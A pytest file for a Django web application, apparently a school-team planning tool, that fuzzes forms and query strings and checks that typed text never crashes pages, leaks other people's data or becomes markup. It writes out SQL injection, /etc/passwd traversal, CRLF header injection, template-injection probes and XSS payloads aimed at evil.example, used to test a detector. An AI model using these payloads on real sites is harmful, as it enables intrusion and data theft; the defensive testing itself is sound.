"""What people with bad intentions type: never a crash, never a word of somebody else, and nothing that runs."""

import json
import unicodedata
from urllib.parse import quote, urljoin

import pytest
from django.core.handlers.wsgi import WSGIRequest
from django.db import transaction
from lxml import html

from ..xss import dangers
from . import cells, oracles
from .conditions_matrix import CONSENSUS, NOTE, NOTES, ORDER, QUESTION, RANKED, ROUND, ROUNDS, TASK, TASKS, TIME
from .expectations import SAFE
from .matrix import MATRIX
from .pilot_matrix import (
    CARD,
    CHALLENGES,
    CYCLE,
    CYCLE_TASK,
    DOOR,
    DOORS,
    MEASURE,
    OBSERVATION,
    PILOT,
    PILOTS,
    PREDICTION,
)
from .pilot_matrix import CYCLES as PILOT_CYCLES
from .pilot_matrix import MEASURES as PILOT_MEASURES
from .pilot_matrix import NOTE as PILOT_NOTE
from .pilot_matrix import NOTES as PILOT_NOTES
from .routes import own_routes
from .sight import may_see
from .spoil import spoil
from .test_matrix import expected
from .theory_matrix import (
    ABOUT,
    ARROW,
    BELIEF_ROUND,
    EVIDENCE,
    FILES,
    GOAL,
    GOALS,
    PROBLEM,
    PROBLEMS,
    STATEMENT,
    STATEMENTS,
    STEPS,
    THEORY,
    VERSION,
    VERSIONS,
)
from .theory_matrix import COMMENT as THEORY_COMMENT
from .world import ANONYMOUS, ROLES, canary

pytestmark = pytest.mark.django_db

OWN = {route.path for route in own_routes()}
HOSTILE = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\ud800",
    "\uffff\ufffe",
    "\u202e\u2066\u200b",
    "%s%n{0}{{7*7}}${7*7}",
    "'; DROP TABLE leadership_person; --",
    "-1",
    str(2**63),
    str(10**30),
    "NaN",
    "../../../../etc/passwd",
    "\r\nBcc: everybody@school.example",
    "Z" * 20_000,
]


def somebody_who_may(route, verb):
    return next(
        role
        for role in reversed(ROLES)
        if role != ANONYMOUS and expected(route, verb, role, "own") in {200, 204, 302} and role != "site_staff"
    )


FORMS = sorted(
    route
    for route, verbs in MATRIX.items()
    if route in OWN and "POST" in verbs and not verbs["POST"].content_type and verbs["POST"].ok == 302
)


@pytest.mark.parametrize("route", FORMS)
def test_no_value_in_any_field_breaks_a_form(route, world):
    rule = MATRIX[route]["POST"]
    place, path = next(one for one in cells.addresses(route, world) if one[0] == "own")
    try:
        role = somebody_who_may(route, "POST")
    except StopIteration:
        role = "member"  # nobody may at this place; the refusal must hold as well
    good = rule.data(world, place, role)
    found = []
    for field in good or ["to"]:
        for value in HOSTILE:
            data = good | {field: [value, value] if value == " " else value}
            try:
                cell = cells.Cell(route, "POST", role, place, path, data)
                response = cells.send_safely(cell, world.client(role), undo=True)
            except UnicodeEncodeError:
                continue  # no browser can send this at all
            if response.status_code >= 500:
                found.append(f"{field}={value[:40]!r}: {response.error!r}")
            sent = oracles.owners(str(data))  # a form gives back what was typed into it
            leaked = oracles.owners(oracles.readable(response)) - may_see(role) - rule.reveals - sent
            found += [f"{field}={value[:40]!r}: shows {owner}" for owner in leaked]
    assert not found, "\n".join(found)


# Where words about the conditions and about theories are typed: (route, field, and below the team's address the page that shows them).
WORDS = [
    (ROUNDS + "new/", "name", None),  # one is open
    (ROUND + "answer/", "note-vision-told", "rounds/4/answer/"),
    (CONSENSUS + "level/", "reason", "rounds/3/consensus/administration/"),
    (CONSENSUS + "settling/", "reason", "rounds/3/consensus/vision/"),
    (CONSENSUS + "dissent/", "words", "rounds/3/consensus/vision/"),
    (QUESTION + "answer/", "words", "conditions/vision/questions/why-recall/"),
    (QUESTION + "dissent/", "words", "conditions/vision/questions/why-recall/"),
    (TASKS + "new/", "words", "conditions/tasks/"),
    (TASK, "words", "conditions/tasks/"),
    (NOTES + "<slug:kind>/", "words", "conditions/vision/groundwork/"),
    (NOTES + "<slug:kind>/", "agreement", "conditions/vision/groundwork/"),
    (NOTE, "words", "conditions/vision/groundwork/"),
    (NOTES + "challenge/<int:challenge_id>/agreement/", "agreement", "conditions/vision/groundwork/"),
    (NOTES + "burning-question/<int:burning_question_id>/learned/", "learned", "conditions/vision/groundwork/"),
    (ORDER + "times/", "meeting", "conditions/order/"),
    (TIME, "meeting", "conditions/order/"),
    (RANKED, "reason", "conditions/order/"),
    (GOALS + "new/", "words", "theory/goals/"),
    *((GOAL + "edit/", field, "theory/goals/10/") for field in ("measure", "benefits", "framework")),
    (PROBLEMS + "new/", "words", "theory/problems/"),
    (PROBLEM + "edit/", "words", "theory/problems/10/"),
    *((PROBLEM + "parts/", field, "theory/problems/10/") for field in ("technical", "adaptive")),
    (EVIDENCE, "words", "theory/problems/10/"),
    (STEPS + "new/", "title", "theory/"),
    (THEORY + "edit/", "title", "theory/"),
    (THEORY + "duplicate/", "title", "theory/"),
    (THEORY + "short/", "line-0-do", "theory/10/"),
    (THEORY + "short/", "line-0-because", "theory/10/"),
    (STATEMENTS, "words", "theory/10/write/"),
    (STATEMENT + "edit/", "words", "theory/10/"),
    (STATEMENT + "leads/", "because", "theory/10/arrows/11-14/"),
    *(
        (ARROW + "edit/", field, "theory/10/arrows/11-12/")
        for field in ("because", "assumption", "evidence", "wrong_if")
    ),
    (ARROW + "state/", "because", "theory/10/arrows/11-12/"),
    (BELIEF_ROUND + "say/", "why-11-12", "theory/10/beliefs/12/say/"),
    (ABOUT + "add/", "words", "theory/10/comments/about/11/"),
    (THEORY_COMMENT, "words", "theory/10/comments/"),
    (THEORY_COMMENT + "answer/", "words", "theory/10/comments/"),
    (VERSIONS + "keep/", "name", "theory/10/versions/11/name/"),
    (VERSION + "name/", "name", "theory/10/versions/10/name/"),
    (STEPS + "import/", "words", None),
    (STEPS + "import/", "title", None),
    (FILES + "import/", "words", None),
    *((PILOTS + "new/", field, None) for field in ("title", "who", "what", "measured_how", "skipped")),
    *(
        (PILOT + "details/", field, "pilots/12/")
        for field in ("title", "first_step", "benefits_educators", "benefits_others")
    ),
    (PILOT + "midpoint/", "midpoint_words", "pilots/12/midpoint/"),
    *((PILOT + "invite/", field, None) for field in ("joining_means", "recorded", "allowance")),
    *((PILOT_NOTES + "<slug:kind>/new/", field, "pilots/12/notes/") for field in ("words", "more")),
    (PILOT_NOTE, "words", "pilots/12/notes/"),
    (PILOTS + "wins/new/", "words", "pilots/wins/"),
    (CHALLENGES + "new/", "words", "pilots/12/people/challenges/"),
    (CHALLENGES + "settle/", "why", "pilots/12/people/challenges/"),
    (PILOT_CYCLES + "new/", "change_idea", "pilots/14/cycles/"),
    (PILOT_CYCLES + "new/", "questions", "pilots/14/cycles/12/"),
    *((CYCLE + "do/", field, "pilots/12/cycles/12/") for field in ("happened", "surprises")),
    (CYCLE + "study/", "learned", "pilots/12/cycles/12/"),
    (CYCLE + "act/", "act_why", "pilots/12/cycles/12/act/"),
    (CYCLE + "again/", "why", "pilots/14/cycles/11/"),
    *((PREDICTION, field, "pilots/13/cycles/11/") for field in ("if_words", "then_words")),
    *((CYCLE_TASK, field, "pilots/12/cycles/12/") for field in ("words", "where")),
    *((PILOT_MEASURES + "new/", field, "pilots/12/measures/") for field in ("title",)),
    *((MEASURE + "edit/", field, "pilots/12/measures/11/") for field in ("title", "definition")),
    (MEASURE + "edit/", "unit", "pilots/12/measures/11/edit/"),
    (MEASURE + "middle-lines/new/", "why", "pilots/12/measures/11/"),
    (OBSERVATION + "strike/", "because", "pilots/12/measures/11/"),
    *((MEASURE + "polls/new/", field, None) for field in ("question", "answered_by")),
    (PILOT + "closing/", "results", "pilots/12/closing/"),
    *((CARD + "edit/", field, "pilots/16/card/") for field in ("context", "tried", "held", "not_again")),
    (PILOTS + "cards/<int:card_id>/replication/", "words", None),
    (DOORS + "new/", "trying", "/schools/school-1/open-classrooms/"),
    *((DOOR + "edit/", field, "/schools/school-1/open-classrooms/") for field in ("trying", "place")),
    (DOOR + "debrief/", "debrief", None),
]
# Right to left with an emoji of several signs, Vietnamese, and a letter in two parts that becomes one.
SPOKEN = "هر کودکی 👩🏽‍🏫 được biết tên cafe\u0301"


def typed_in(world, route, field, words):
    place, path = next(one for one in cells.addresses(route, world) if one[0] == "own")
    data = MATRIX[route]["POST"].data(world, place, "member") | {field: words}
    role = "facilitator" if route in {ROUNDS + "new/", PILOT + "closing/", PILOT + "invite/"} else "member"
    return role, world.client(role).post(f"/{path}", data)


@pytest.mark.parametrize(("route", "field", "_shown"), WORDS)
def test_words_that_are_too_long_come_back(route, field, _shown, world):
    before = oracles.fingerprint()
    _role, answer = typed_in(world, route, field, "Z" * 20_000)
    assert answer.status_code == 422
    assert "Z" * 20_000 in answer.content.decode()
    assert oracles.written(before, oracles.fingerprint()) == []


@pytest.mark.parametrize(("route", "field", "shown"), [one for one in WORDS if one[2]])
def test_words_of_every_script_are_kept_and_run_their_own_way(route, field, shown, world):
    point = transaction.savepoint_create()
    role, answer = typed_in(world, route, field, SPOKEN + "\u202e")
    page = world.client(role).get(urljoin("/teams/team-a/", shown)).content.decode()
    transaction.savepoint_rollback(point)
    assert answer.status_code == 302
    kept = unicodedata.normalize("NFC", SPOKEN)
    around = [one for one in html.fromstring(page).iter() if (one.text or "").strip() == kept]
    assert around or f'value="{kept}"' in page
    assert "\u202e" not in page
    turned = [any(up.get("dir") == "auto" for up in (one, *one.iterancestors())) for one in around]
    assert all(turned), [html.tostring(one) for one in around]


QUERIES = ["authors", "old", "new", "next", "page", "q", "number"]


@pytest.fixture
def looks(monkeypatch):
    """Notes each look at a query. A page that never looks cannot be broken by what stands there."""
    noted, query, whole = [], WSGIRequest.GET.real_func, WSGIRequest.get_full_path
    monkeypatch.setattr(WSGIRequest, "GET", property(lambda request: noted.append("GET") or query(request)))
    monkeypatch.setattr(
        WSGIRequest, "get_full_path", lambda *args, **more: noted.append("path") or whole(*args, **more)
    )
    return noted


@pytest.mark.parametrize("route", sorted(route for route in OWN & set(MATRIX) if "GET" in MATRIX[route]))
def test_no_query_breaks_a_page(route, world, looks):
    place, path = next(one for one in cells.addresses(route, world) if one[0] == "own")
    role = "facilitator"
    found = []
    for value in HOSTILE[2:15]:
        try:
            query = "&".join(f"{name}={quote(value)}" for name in QUERIES)
        except UnicodeEncodeError:
            continue
        response = cells.send_safely(
            cells.Cell(route, "GET", role, place, f"{path}?{query}"), world.client(role), undo=True
        )
        if response.status_code >= 500:
            found.append(f"{value[:40]!r}: {response.error!r}")
        if not looks:
            break
    assert not found, "\n".join(found)


@pytest.mark.parametrize("cookie", ["x" * 5000, "no such session", "%00" * 10])
def test_no_session_cookie_breaks_a_page(cookie, world):
    client = world.client(ANONYMOUS)
    assert client.get("/", headers={"cookie": f"sessionid={cookie}"}).status_code in {200, 302, 400}


# --- nothing that was typed runs ------------------------------------------------------------------------------


@pytest.fixture
def typed(world):
    return spoil(world)


def test_nothing_typed_becomes_markup(typed):
    """Over every page a facilitator can read, and every page of a signed-in person."""
    found, seen = [], 0
    for route in sorted(OWN & set(MATRIX)):
        if "GET" not in MATRIX[route]:
            continue
        place, path = next(one for one in cells.addresses(route, typed) if one[0] == "own")
        # Whoever reads a page reads the same words; beside the team, only who runs its school and district reads others.
        roles = ("facilitator", "member") if "people/challenges/" in route else ("facilitator",)
        roles = roles if route.startswith("teams/") else ("facilitator", "school_facilitator", "outsider")
        for role in (*roles, "district_facilitator") if route.startswith("districts/") else roles:
            for query in ("", "?authors=1") if route.endswith(("vision/", "<int:number>/")) else ("",):
                cell = cells.Cell(route, "GET", role, place, path + query)
                response = cells.send_safely(cell, typed.client(role), undo=True)
                if response.status_code == 500:
                    found.append(f"{cell}: {response.error!r}")
                elif response["Content-Type"].startswith("text/html"):
                    seen += 1
                    found += [f"{cell}: {danger}" for danger in dangers(response.content.decode())]
    assert not found, "\n".join(found[:30])
    assert seen > 80


def test_the_witness_sees_what_runs():
    """The check above must be able to fail."""
    for bad in (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        '<div hx-get="https://evil.example/">x</div>',
        '<div data-hx-post="/x">x</div>',
        '<svg><use href="data:image/svg+xml,x"></use></svg>',
        '<form action="https://evil.example/"><button>x</button></form>',
        '<iframe src="https://evil.example/"></iframe>',
        '<base href="https://evil.example/">',
        "<p style='background:url(https://evil.example/)'>x</p>",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<script type=\'application/json\'>{"a": "</script><b>"}</script>',
    ):
        assert list(dangers(f"<main>{bad}</main>")), bad
    assert list(dangers("<main><p>plain &lt;script&gt;</p><a href='/x/'>x</a></main>")) == []


def test_json_inside_pages_stays_json(typed):
    page = typed.client("member").get("/teams/team-a/vision/").content.decode()
    scripts = html.fromstring(page).xpath("//script[@type='application/json']")
    assert scripts
    for script in scripts:
        json.loads(script.text)


def test_an_exported_file_is_no_page(typed):
    response = typed.client("member").get("/me/export/")
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"


def test_safe_verbs_are_the_safe_ones():
    assert {"GET", "HEAD", "OPTIONS"} == SAFE
    assert canary("x").startswith("canary:")
